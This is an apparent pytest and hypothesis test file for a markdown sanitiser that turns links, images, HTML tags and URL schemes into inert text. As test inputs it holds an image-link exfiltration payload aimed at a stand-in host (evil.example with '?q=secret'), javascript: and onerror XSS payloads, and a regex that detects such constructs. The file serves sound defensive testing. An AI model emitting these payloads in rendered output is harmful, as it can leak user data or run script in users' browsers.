import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from query_engine.text.markdown_escape import as_quote, as_text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![cat](http://evil.example/?q=secret)", "[cat] (evil.example/?q=secret)"),
        ("[click](javascript:alert(1))", "[click] (alert(1))"),
        ("[click][1]", "[click][1]"),
        ("see [1] and [2][3].", "see [1] and [2][3]."),
        ("[x]: https://evil.example", "[x] : evil.example"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("</script><!-- x -->", "< /script>< !-- x -->"),
        ("<https://evil.example>", "< evil.example>"),
        ("go to www.evil.example now", "go to evil.example now"),
        ("DATA:text/html,x", "text/html,x"),
        ("a < b and c > d, 5:30, note: this", "a < b and c > d, 5:30, note: this"),
        ("https:javascript://evil.example", "evil.example"),
        ("!![x](y)", "[x] (y)"),
        ("data: 42\n\nevent: done", "data: 42\n\nevent: done"),
        ("**bold** `code` stays", "**bold** `code` stays"),
    ],
)
def test_links_images_and_tags_become_text(text: str, shown: str) -> None:
    assert as_text(text) == shown


PARTS = [
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "/",
    ":",
    "a",
    " ",
    "1",
    "&#106;",
    "\\",
    "`",
    "http://",
    "https:",
    "//",
    "www.",
]
PARTS += [
    "javascript:",
    "data:text/html,",
    "JaVaScRiPt:",
    "img src=x",
    "![",
    "](",
    "]:",
    "[1]",
    "ht",
    "tp://",
    "java",
    "script:",
]


@given(st.lists(st.sampled_from(PARTS), max_size=30).map("".join))
def test_nothing_that_renderers_act_on_is_left_in_any_text(text: str) -> None:
    assert not re.search(
        r"!\[|\]\(|\]:|<[a-z/!?]|\bhttps?://\S|\bwww\.\S|\bjavascript:\S", as_text(text), re.IGNORECASE
    )


def test_marks_of_references_in_a_quote_are_no_citations() -> None:
    assert as_quote("Wind is cheap [12], as others [2, 5-7] found.") == "Wind is cheap (12), as others (2, 5-7) found."
    assert as_quote("an array[i] stays") == "an array[i] stays"
